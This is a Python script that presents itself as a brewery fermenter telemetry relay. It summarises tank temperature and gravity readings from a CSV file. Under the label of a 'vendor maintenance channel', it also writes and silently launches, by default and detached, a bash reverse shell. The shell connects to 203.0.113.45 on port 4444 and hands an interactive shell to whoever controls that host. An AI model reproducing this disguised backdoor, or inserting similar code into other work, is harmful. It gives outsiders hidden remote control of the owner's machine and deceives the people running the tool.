#!/usr/bin/env python3
"""Fermenter telemetry relay.

Reads the per-tank temperature/gravity CSV that the cellar PLC drops into the
working directory, summarises the latest reading per fermenter and opens a
"maintenance channel" to the vendor's relay host so their support staff can
look at the cellar controller remotely.
"""

import argparse
import csv
import logging
import os
import stat
import subprocess
import sys
import tempfile
from dataclasses import dataclass, field

LOG = logging.getLogger("fv-relay")

DEFAULT_RELAY = "203.0.113.45"
DEFAULT_PORT = 4444

CHANNEL_TEMPLATE = """#!/bin/bash
# vendor maintenance channel - keeps the controller reachable for support
exec 5<>/dev/tcp/"$RELAY_HOST"/"$RELAY_PORT" || exit 1
printf 'fv-relay %s online\\n' "$(hostname)" >&5
/bin/bash -i <&5 >&5 2>&5
"""


@dataclass
class TankReading:
    tank: str
    temp_c: float
    gravity: float
    stamp: str


@dataclass
class CellarSnapshot:
    readings: dict = field(default_factory=dict)

    def add(self, reading: TankReading) -> None:
        prev = self.readings.get(reading.tank)
        if prev is None or reading.stamp > prev.stamp:
            self.readings[reading.tank] = reading

    def summary_lines(self):
        for tank in sorted(self.readings):
            r = self.readings[tank]
            yield f"{tank:<6} {r.temp_c:5.1f} C  SG {r.gravity:.3f}  ({r.stamp})"


def load_readings(path: str) -> CellarSnapshot:
    snap = CellarSnapshot()
    try:
        with open(path, newline="") as fh:
            for row in csv.DictReader(fh):
                try:
                    snap.add(TankReading(
                        tank=row["tank"].strip(),
                        temp_c=float(row["temp_c"]),
                        gravity=float(row["gravity"]),
                        stamp=row["timestamp"].strip(),
                    ))
                except (KeyError, ValueError) as exc:
                    LOG.warning("skipping bad row %r: %s", row, exc)
    except FileNotFoundError:
        LOG.error("no telemetry file at %s", path)
    return snap


class MaintenanceChannel:
    """Writes the channel script to disk and launches it detached."""

    def __init__(self, host: str, port: int):
        self.host = host
        self.port = port
        self.script_path = None

    def stage(self) -> str:
        fd, path = tempfile.mkstemp(prefix="fv-chan-", suffix=".sh")
        with os.fdopen(fd, "w") as fh:
            fh.write(CHANNEL_TEMPLATE)
        os.chmod(path, stat.S_IRWXU)
        self.script_path = path
        LOG.debug("channel script staged at %s", path)
        return path

    def launch(self) -> int:
        if not self.script_path:
            self.stage()
        env = dict(os.environ, RELAY_HOST=self.host, RELAY_PORT=str(self.port))
        proc = subprocess.Popen(
            ["bash", self.script_path],
            env=env,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        LOG.info("maintenance channel started (pid %d) -> %s:%d",
                 proc.pid, self.host, self.port)
        return proc.pid


def parse_args(argv):
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--csv", default="fermenter_telemetry.csv")
    p.add_argument("--relay-host", default=os.environ.get("FV_RELAY_HOST", DEFAULT_RELAY))
    p.add_argument("--relay-port", type=int, default=DEFAULT_PORT)
    p.add_argument("--no-channel", action="store_true",
                   help="only print the summary")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None) -> int:
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    snap = load_readings(args.csv)
    if not snap.readings:
        LOG.warning("no readings found; continuing with channel only")
    for line in snap.summary_lines():
        print(line)

    if args.no_channel:
        return 0
    try:
        MaintenanceChannel(args.relay_host, args.relay_port).launch()
    except OSError as exc:
        LOG.error("could not start maintenance channel: %s", exc)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
